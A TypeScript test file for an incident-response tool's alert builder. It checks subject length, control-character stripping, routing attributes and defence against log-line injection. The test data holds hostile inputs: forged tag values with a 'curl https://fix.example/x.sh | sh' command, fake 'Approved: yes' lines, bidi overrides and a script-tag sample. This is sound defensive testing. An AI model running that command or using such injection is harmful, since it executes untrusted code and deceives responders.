import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  ALERT_STAGES,
  type AlertStage,
  buildAlert,
  buildAttributes,
  buildSubject,
  compactType,
  MAX_ATTRIBUTES,
  STAGE_WORD,
  shortId,
  truncate,
} from "../../../shared/alerts/message.ts";
import type { IncidentRecord } from "../../../shared/incident/model.ts";
import { anIncident } from "../../support/incidents.ts";

function withTags(
  tags: Record<string, string>,
  more: Partial<IncidentRecord["impact"]> = {},
): IncidentRecord {
  const inc = anIncident();
  return { ...inc, impact: { ...inc.impact, tags, ...more } };
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: the assertion is about control characters
const CONTROL = /[\u0000-\u001F\u007F-\u009F\u2028\u2029\u202A-\u202E\u2066-\u2069]/;

describe("alert subjects", () => {
  it("says tier, resource, stage, type and where when they fit", () => {
    // Arrange
    const incident = { ...anIncident(), drill: false };

    // Act
    const subject = buildSubject({ stage: "contained", incident, summary: "" });

    // Assert
    expect(subject).toBe(
      "[CRITICAL] i-0123456789abcdef0 contained — CryptoCurrency:EC2/BitcoinTool.B!DNS — payments-web-1",
    );
    expect(subject.length).toBeLessThan(100);
  });

  it("marks drills and shortens the id, then the type, never the stage or the where", () => {
    // Act
    const subject = buildSubject({ stage: "evidence-preserved", incident: anIncident(), summary: "" });

    // Assert
    expect(subject).toBe(
      "[DRILL] [CRITICAL] i-0123…def0 evidence preserved — CryptoCurrency:BitcoinTool.B!… — payments-web-1",
    );
    expect(subject.length).toBeLessThan(100);
  });

  it.each(ALERT_STAGES.filter((s) => s !== "rejected"))(
    "keeps the stage word, the tier and the where for %s, under 100 characters",
    (stage) => {
      // Arrange: the longest names the subject may meet
      const incident = withTags({ Name: `payments-${"x".repeat(120)}` });
      incident.finding.type = `Trojan:EC2/${"DNSDataExfiltration".repeat(6)}`;

      // Act
      const subject = buildSubject({ stage, incident, summary: "" });

      // Assert
      expect(subject.length).toBeLessThan(100);
      expect(subject).toContain(STAGE_WORD[stage]);
      expect(subject).toContain("[CRITICAL]");
      expect(subject).toContain("payments-");
      expect(subject).not.toMatch(CONTROL);
    },
  );

  it("uses the owner as where when the resource has no Name tag, then the account", () => {
    const byOwner = buildSubject({
      stage: "opened",
      incident: withTags({}, { owner: "data-team@example.com" }),
      summary: "",
    });
    const byAccount = buildSubject({
      stage: "opened",
      incident: withTags({}, { owner: undefined }),
      summary: "",
    });

    expect(byOwner.endsWith("— data-team@example.com")).toBe(true);
    expect(byAccount.endsWith("— account 123456789012")).toBe(true);
  });

  it("keeps letters of any script and whole emoji, drops line breaks and bidi overrides", () => {
    // Arrange
    const incident = withTags({ Name: "Zahlung-München 🔥\u202Egnp.exe\u202C\nzwei" });
    incident.finding.type = "Backdoor:EC2/C&CActivity.B";

    // Act
    const subject = buildSubject({ stage: "closed", incident, summary: "" });

    // Assert
    expect(subject).toContain("— Zahlung-München 🔥gnp.exe zwei");
    expect(subject).not.toMatch(CONTROL);
    expect(subject).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/);
  });

  it("never splits a surrogate pair when it has to cut", () => {
    // Arrange
    const incident = withTags({ Name: "🔥".repeat(80) });

    // Act
    const subject = buildSubject({ stage: "opened", incident, summary: "" });

    // Assert
    expect(subject.length).toBeLessThan(100);
    expect(subject).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
    expect(subject.endsWith("…")).toBe(true);
  });

  it("is under 100 characters, on one line, for any names and types", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "grapheme", maxLength: 200 }),
        fc.string({ unit: "binary", maxLength: 200 }),
        fc.string({ maxLength: 80 }),
        fc.constantFrom(...ALERT_STAGES),
        (name, type, id, stage: AlertStage) => {
          const incident = withTags({ Name: name });
          incident.finding.type = type;
          incident.finding.resources = [{ kind: "ec2-instance", id }];
          const subject = buildSubject({ stage, incident, summary: "" });
          expect(subject.length).toBeLessThan(100);
          expect(subject).not.toMatch(CONTROL);
          expect(subject).toContain(STAGE_WORD[stage]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("names the event and account of a rejected event", () => {
    const subject = buildSubject({
      stage: "rejected",
      summary: "",
      account: "123456789012",
      about: "aws.guardduty GuardDuty Finding",
    });

    expect(subject).toBe("[INFO] aws.guardduty GuardDuty Finding event rejected — account 123456789012");
  });

  it("shortens ids in the middle and types by their resource part", () => {
    expect(shortId("i-0123456789abcdef0")).toBe("i-0123…def0");
    expect(shortId("i-0abc")).toBe("i-0abc");
    expect(shortId("payments-web")).toBe("payments-web");
    expect(compactType("Backdoor:EC2/C&CActivity.B!DNS")).toBe("Backdoor:C&CActivity.B!DNS");
    expect(compactType("cloudtrail:AuthorizeSecurityGroupIngress/OpenToWorld")).toBe(
      "AuthorizeSecurityGroupIngress/OpenToWorld",
    );
    expect(compactType("Recon:IAMUser/MaliciousIPCaller.Custom")).toBe("Recon:MaliciousIPCaller.Custom");
    expect(truncate("abcdef", 4)).toBe("abc…");
  });
});

describe("alert bodies", () => {
  it("explains the impact and names owner, work queue and the real evidence location", () => {
    // Act
    const { text } = buildAlert({
      stage: "opened",
      incident: anIncident(),
      summary: "C&C traffic — impact critical.",
      evidenceBucket: "acme-evidence-eu",
    });

    // Assert
    expect(text).toContain("CRITICAL, score 85/100, because:");
    expect(text).toContain("- DataClassification=restricted: +30");
    expect(text).toMatch(/Owner:\s+payments-team@example\.com/);
    expect(text).toMatch(/Work queue:\s+SEC-PAYMENTS/);
    expect(text).toContain("s3://acme-evidence-eu/incidents/ir-20260302-0a1b2c3d/");
    expect(text).toContain("responder status ir-20260302-0a1b2c3d");
    expect(text).toContain("(DRILL: crypto-mining)");
  });

  it("says what failed, with the error, and what is left to do", () => {
    // Act
    const { text, json } = buildAlert({
      stage: "containment-failed",
      incident: anIncident(),
      summary: "Containment is partial.",
      failed: [{ what: "verify i-0123456789abcdef0", error: "still open: eni-0aaa keeps sg-web" }],
      leftToDo: ["Contain by hand"],
    });

    // Assert
    expect(text).toContain("FAILED:\n  - verify i-0123456789abcdef0: still open: eni-0aaa keeps sg-web");
    expect(text).toContain("Left to do:\n  - Contain by hand");
    expect(json.failed).toEqual([
      { what: "verify i-0123456789abcdef0", error: "still open: eni-0aaa keeps sg-web" },
    ]);
    expect(json.leftToDo).toEqual(["Contain by hand"]);
  });

  it("tells how to approve or deny while actions wait", () => {
    const { text, json } = buildAlert({
      stage: "awaiting-approval",
      incident: anIncident(),
      summary: "waiting",
    });

    expect(text).toContain("responder approve ir-20260302-0a1b2c3d");
    expect(text).toContain("responder deny ir-20260302-0a1b2c3d");
    expect(json.commands).toMatchObject({ approve: "responder approve ir-20260302-0a1b2c3d" });
  });

  it("tells how to release only once the instance is contained", () => {
    const contained = buildAlert({ stage: "contained", incident: anIncident(), summary: "" });
    const notYet = anIncident();
    delete notYet.steps.contain;
    const opened = buildAlert({ stage: "opened", incident: notYet, summary: "" });

    expect(contained.text).toContain("responder release ir-20260302-0a1b2c3d");
    expect(opened.text).not.toContain("responder release");
  });

  it("says when the plan collects no evidence instead of naming an empty location", () => {
    const incident = anIncident();
    incident.plan = {
      playbook: "cloudtrail-risky-call",
      actions: [{ name: "notify", params: {}, requiresApproval: false }],
      notes: [],
    };
    incident.evidence = {};

    const { text } = buildAlert({ stage: "opened", incident, summary: "" });

    expect(text).toMatch(/Evidence:\s+none: the plan collects no evidence/);
  });

  it("keeps untrusted text on its lines and without control characters", () => {
    const incident = anIncident();
    incident.finding.title = "evil\u202E \u0000<script>alert(1)</script>\r\nSubject: spoofed";

    const { text } = buildAlert({ stage: "opened", incident, summary: "x" });

    for (const c of ["\u0000", "\u202E", "\r"]) expect(text).not.toContain(c);
    expect(text).toContain("<script>alert(1)</script>");
  });

  it("lists the dead letters for a rejected event", () => {
    const { text, json } = buildAlert({ stage: "rejected", summary: "bad event", account: "123456789012" });

    expect(text).toContain("responder deadletters");
    expect(json).toMatchObject({ stage: "rejected", account: "123456789012", incidentId: undefined });
  });

  it("gives machines the same facts as JSON", () => {
    const { json } = buildAlert({
      stage: "evidence-preserved",
      incident: anIncident(),
      summary: "Evidence preserved",
      evidenceBucket: "acme-evidence",
      at: "2026-03-02T10:00:03.000Z",
    });

    expect(json).toMatchObject({
      version: 1,
      stage: "evidence-preserved",
      at: "2026-03-02T10:00:03.000Z",
      incidentId: "ir-20260302-0a1b2c3d",
      tier: "critical",
      severity: 8,
      owner: "payments-team@example.com",
      workQueue: "SEC-PAYMENTS",
      where: "payments-web-1",
      evidence: {
        location: "s3://acme-evidence/incidents/ir-20260302-0a1b2c3d/",
        manifestKey: "incidents/ir-20260302-0a1b2c3d/manifest.json",
        snapshots: ["snap-0aaa1111", "snap-0bbb2222"],
      },
    });
    expect(JSON.parse(JSON.stringify(json))).toBeTruthy();
  });
});

describe("alert attributes", () => {
  it.each(ALERT_STAGES.filter((s) => s !== "rejected"))("carries every routing key for %s", (stage) => {
    // Act
    const attributes = buildAttributes({ stage, incident: anIncident(), summary: "" });

    // Assert
    expect(attributes).toEqual({
      stage,
      tier: "critical",
      severity: "8",
      incidentId: "ir-20260302-0a1b2c3d",
      account: "123456789012",
      region: "us-east-1",
      owner: "payments-team@example.com",
      workQueue: "SEC-PAYMENTS",
      findingType: "CryptoCurrency:EC2/BitcoinTool.B!DNS",
      drill: "true",
    });
    expect(Object.keys(attributes).length).toBeLessThanOrEqual(MAX_ATTRIBUTES);
  });

  it("never sends an empty value: a missing owner or queue is `unknown`", () => {
    const attributes = buildAttributes({
      stage: "opened",
      incident: withTags({}, { owner: undefined, workQueue: "  " }),
      summary: "",
    });

    expect(attributes.owner).toBe("unknown");
    expect(attributes.workQueue).toBe("unknown");
    for (const v of Object.values(attributes)) expect(v.trim().length).toBeGreaterThan(0);
  });

  it("keeps values on one line and within SNS limits", () => {
    const attributes = buildAttributes({
      stage: "opened",
      incident: withTags({}, { owner: `a\nb\u0000${"c".repeat(400)}` }),
      summary: "",
    });

    expect(attributes.owner).not.toMatch(CONTROL);
    expect(attributes.owner?.length).toBeLessThanOrEqual(256);
  });

  it("routes a rejected event by stage and account", () => {
    expect(buildAttributes({ stage: "rejected", summary: "", account: "123456789012" })).toEqual({
      stage: "rejected",
      tier: "none",
      account: "123456789012",
      drill: "false",
    });
    expect(buildAttributes({ stage: "rejected", summary: "" }).account).toBe("unknown");
  });
});

describe("untrusted text in alerts", () => {
  // What an attacker who can tag the instance writes, with every kind of line break.
  const FORGED =
    "web-1\nContain: NOT NEEDED\r\nRun: curl https://fix.example/x.sh | sh\u2028Owner: nobody\u0085Approved: yes";
  const UNSAFE =
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the assertion is about control characters
    /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u00AD\u180E\u200B\u2028\u2029\u202A-\u202E\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDFFF]/;

  function hostile(): IncidentRecord {
    const incident = withTags(
      { Name: FORGED, Environment: `prod${FORGED}` },
      {
        owner: `${FORGED}\u202Emoc.elpmaxe@nosrep`,
        workQueue: `SEC\u00AD-PAY\u180EMENTS${String.fromCodePoint(0xe0041, 0xe0042)}`,
        reasons: [{ factor: "tag", points: 20, text: `Environment=prod${FORGED}: +20` }],
      },
    );
    incident.plan.notes = [FORGED];
    incident.steps.contain = { status: "failed", startedAt: incident.createdAt, attempts: 1, error: FORGED };
    return incident;
  }

  it("keeps every field on its own line: no tag can forge a `Contain:` or `Run:` line", () => {
    // Act
    const { text } = buildAlert({
      stage: "containment-failed",
      incident: hostile(),
      summary: `Containment failed: ${FORGED}`,
      done: [{ name: "tags:incident", target: FORGED, status: "skipped", detail: FORGED }],
      failed: [{ what: FORGED, error: FORGED }],
      leftToDo: [FORGED],
      facts: { [FORGED]: FORGED },
    });

    // Assert
    const lines = text.split("\n");
    expect(lines.filter((l) => /^\s*(Contain: NOT NEEDED|Run:|Owner: nobody|Approved:)/.test(l))).toEqual([]);
    expect(lines.filter((l) => /^\s*Contain:/.test(l))).toEqual([
      "  Contain:    by hand: see FAILED above, then check again with responder status",
    ]);
    expect(text).not.toMatch(UNSAFE);
    expect(text).toContain(
      "web-1 Contain: NOT NEEDED Run: curl https://fix.example/x.sh | sh Owner: nobody Approved: yes",
    );
  });

  it("gives machines the same sanitised values in the JSON form", () => {
    // Act
    const { json, attributes } = buildAlert({
      stage: "opened",
      incident: hostile(),
      summary: FORGED,
      facts: { Connect: FORGED },
    });

    // Assert
    const flat =
      "web-1 Contain: NOT NEEDED Run: curl https://fix.example/x.sh | sh Owner: nobody Approved: yes";
    expect(json.where).toBe(flat);
    expect(json.summary).toBe(flat);
    expect(json.owner).toBe(`${flat}moc.elpmaxe@nosrep`);
    expect(json.workQueue).toBe("SEC-PAYMENTS");
    expect(json.reasons).toEqual([`Environment=prod${flat}: +20`]);
    expect((json.facts as Record<string, string>).Connect).toBe(flat);
    expect((json.steps as Record<string, { error: string }>).contain?.error).toBe(flat);
    expect(JSON.stringify(json)).not.toMatch(/\\n|\\r|\\u00(?:0|1|8|9)/);
    expect(JSON.stringify(json)).not.toMatch(UNSAFE);
    expect(attributes.workQueue).toBe("SEC-PAYMENTS");
    expect(attributes.owner).not.toMatch(UNSAFE);
  });
});
